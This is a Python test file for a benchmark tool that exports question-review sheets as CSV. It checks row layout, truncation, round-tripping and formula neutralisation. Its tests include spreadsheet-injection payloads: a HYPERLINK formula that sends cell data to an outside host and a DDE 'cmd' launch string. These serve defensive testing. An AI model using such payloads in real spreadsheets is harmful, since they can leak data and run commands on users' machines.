import csv
import io
from typing import Any

import pytest
from hle_rows import choice, exact, png, uri
from hypothesis import given
from hypothesis import strategies as st

from raybench.benchmarks.parts.hle.screening import review, rubric
from raybench.benchmarks.parts.hle.screening.review import Reviewed, SheetError

cells = st.text(st.characters(codec="utf-8"), max_size=20) | st.sampled_from(
    ["=1+1", "'=1", "''-1", "-5", "@x", "\t=x", "\r", "a\nb", 'say "no"', ",;\t", "＝1", "'", "'a"]
)


def read(text: str) -> list[dict[str, str]]:
    return [row for _, row in review.rows(text)]


def test_a_sheet_has_a_row_for_every_review_with_what_reviewers_need() -> None:
    asked = [
        Reviewed(exact("a", image=uri(png())), "none of 4 models answered it", ("brief", "odd $")),
        Reviewed(choice("b"), "1 of 4 models answered it"),
    ]
    text = review.sheet(asked, reviewers=2)
    rows = read(text)
    assert [(row["id"], row["round"]) for row in rows] == [
        *(("a", "1"), ("a", "1"), ("a", "2")),
        *(("b", "1"), ("b", "1"), ("b", "2")),
    ]
    assert tuple(rows[0]) == review.COLUMNS
    first = exact("a")
    assert {name: rows[0][name] for name in ("question", "answer", "rationale")} == {
        name: first[name] for name in ("question", "answer", "rationale")
    }
    assert rows[0]["evidence"] == asked[0].evidence
    assert rows[0]["notes"] == "brief; odd $"
    assert (rows[0]["image"], rows[3]["image"]) == ("yes", "")
    assert rows[3]["question"] == choice("b")["question"]
    filled_in = ("reviewer", *rubric.CHECKS, "score", "decision", "comments")
    assert not any(row[column] for row in rows for column in filled_in)


@pytest.mark.parametrize("reviewers", [0, 4])
def test_the_first_round_has_one_to_three_reviewers(reviewers: int) -> None:
    with pytest.raises(ValueError, match="1 to 3 reviewers"):
        review.sheet([], reviewers=reviewers)


def test_what_is_too_long_for_a_cell_is_cut_and_says_so() -> None:
    (row, _) = read(review.sheet([Reviewed(exact(rationale="x" * 40_000), "")]))
    assert row["rationale"].endswith("… (cut: 40000 letters)")
    assert len(row["rationale"]) < 32_767


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("https://example.org/?"&A1,"see")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "＝1+1",
        "\t=1+1",
        "\r=1+1",
        "'=1",
    ],
)
def test_no_cell_begins_as_a_formula(hostile: str) -> None:
    it = Reviewed(exact(hostile, question=hostile, answer=hostile, rationale=hostile), hostile)
    for text in csv.reader(io.StringIO(review.sheet([it]), newline="")):
        assert not any(cell.startswith(tuple("=+-@\t\r\n＝＋－＠")) for cell in text)
    assert read(review.table([{"comments": hostile}]))[0]["comments"] == hostile


@given(st.lists(st.dictionaries(st.sampled_from(review.COLUMNS), cells), max_size=5))
def test_a_table_comes_back(rows: list[dict[str, str]]) -> None:
    filled = [{**dict.fromkeys(review.COLUMNS, ""), **row} for row in rows]
    assert read(review.table(rows)) == [row for row in filled if any(row.values())]


@pytest.mark.parametrize("parted", [",", ";", "\t"])
def test_sheets_as_programs_save_them_are_read(parted: str) -> None:
    text = f"\ufeffround{parted}id\r\n1{parted}a\r\n\r\n2{parted}'-b\r\n"
    assert list(review.rows(text)) == [
        (2, {"round": "1", "id": "a"}),
        (4, {"round": "2", "id": "-b"}),
    ]


def test_what_is_no_table_is_said() -> None:
    assert read("") == []
    with pytest.raises(SheetError, match="row 3"):
        read('id,round\na,1\n"' + "x" * 200_000 + '",2\n')


def test_the_guide_tells_every_field() -> None:
    told = rubric.guide("COMMAND")
    given = ("COMMAND", *rubric.DECISIONS, *rubric.GIVEN)
    fields: list[Any] = [*rubric.CHECKS, *rubric.SCORES, *given]
    assert all(f"{field}" in told for field in fields)


def test_a_sheet_names_the_file_of_an_image_where_it_lies_beside() -> None:
    pictured = exact("p", image="data:image/png;base64,AA==")
    shown = [Reviewed(pictured, "", image="images/1.png"), Reviewed(pictured, "")]
    told = [row["image"] for row in read(review.sheet(shown)) if row["round"] == "1"]
    assert told == ["images/1.png", "yes"]


def test_a_row_is_about_its_question_however_it_was_saved_and_not_about_a_mended_one() -> None:
    question = exact("q", question="-What\nis $x$?", rationale="It   is\nso, and proven.")
    row = read(review.sheet([Reviewed(question, "")]))[0]
    saved = {name: cell.replace("\n", "\r\n") for name, cell in row.items()}
    assert review.is_about(row, question)
    assert review.is_about(saved, question)
    assert review.is_about({"id": "q"}, question)
    for column in ("question", "answer", "rationale"):
        assert not review.is_about(row, question | {column: "Another one."})


@pytest.mark.parametrize(
    ("answer", "mended"), [("Kras", "KRAS"), ("n", "n!"), ("(0, 1)", "[0, 1]")]
)
def test_a_question_is_mended_where_its_answer_is_by_case_or_marks_alone(
    answer: str, mended: str
) -> None:
    (_, row), *_ = review.rows(review.sheet([Reviewed(exact("q", answer=answer), "none")]))
    assert review.is_about(row, exact("q", answer=answer))
    assert not review.is_about(row, exact("q", answer=mended))
